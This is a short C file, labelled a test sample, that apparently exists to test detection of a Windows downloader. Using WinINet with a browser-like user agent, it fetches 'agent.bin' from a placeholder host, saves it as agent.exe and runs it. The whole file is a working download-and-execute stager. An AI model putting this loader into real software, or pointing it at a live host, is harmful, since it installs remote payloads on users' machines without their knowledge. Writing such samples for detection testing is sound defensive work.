/* Test sample: WinINet download written to disk, then started. */
#include <windows.h>
#include <wininet.h>

int main(void) {
    char buf[4096];
    DWORD n = 0, written = 0;
    HINTERNET net = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
    HINTERNET url = InternetOpenUrlA(net, "https://updates.example.invalid/agent.bin", NULL, 0, 0, 0);
    HANDLE f = CreateFileA("agent.exe", GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    while (InternetReadFile(url, buf, sizeof buf, &n) && n > 0) {
        WriteFile(f, buf, n, &written, NULL);
    }
    CloseHandle(f);
    STARTUPINFOA si = {sizeof si};
    PROCESS_INFORMATION pi;
    CreateProcessA("agent.exe", NULL, NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi);
    return 0;
}
